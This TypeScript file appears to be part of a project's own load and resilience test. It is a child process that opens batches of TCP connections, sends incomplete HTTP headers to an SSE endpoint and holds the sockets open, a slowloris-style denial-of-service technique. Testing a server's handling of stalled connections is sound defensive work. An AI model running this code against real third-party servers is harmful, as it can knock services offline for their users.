// Child process of `npm run attack`: holds connections whose request headers never finish.
// One process can hold only `ulimit -n` sockets, so the attack spreads them over several of these.
// Argv: host port count; IPC: answers "report" with its counts, exits on "stop".
import net from "node:net"

const [host = "127.0.0.1", portText = "0", countText = "0"] = process.argv.slice(2)
const port = Number(portText)
const count = Number(countText)
const HALF_HEADERS = "GET /sse/v1/orders/1 HTTP/1.1\r\nHost: walera\r\nUser-Agent: attack-holder\r\n"

const sockets = new Set<net.Socket>()
const counts = { opened: 0, closedByServer: 0, failed: 0, firstCloseMs: -1, started: Date.now() }
let stopping = false

const openOne = (): Promise<void> =>
  new Promise((resolve) => {
    const socket = net.connect({ host, port })
    let connected = false
    socket.once("connect", () => {
      connected = true
      counts.opened++
      sockets.add(socket)
      socket.write(HALF_HEADERS)
      resolve()
    })
    socket.on("data", () => {})
    socket.once("close", () => {
      sockets.delete(socket)
      if (!connected) {
        counts.failed++
        resolve()
      } else if (!stopping) {
        counts.closedByServer++
        if (counts.firstCloseMs < 0) counts.firstCloseMs = Date.now() - counts.started
      }
    })
    socket.on("error", () => {})
  })

const run = async () => {
  // In batches, so the listen backlog is not the thing being measured.
  for (let i = 0; i < count && !stopping; i += 200) {
    await Promise.all(Array.from({ length: Math.min(200, count - i) }, openOne))
  }
}

process.on("message", (m: unknown) => {
  if (m === "report") process.send?.({ ...counts, held: sockets.size })
  if (m === "stop") {
    stopping = true
    for (const s of sockets) s.destroy()
    process.send?.({ ...counts, held: 0 }, () => process.exit(0))
  }
})
void run().then(() => process.send?.({ ...counts, held: sockets.size, ready: true }))
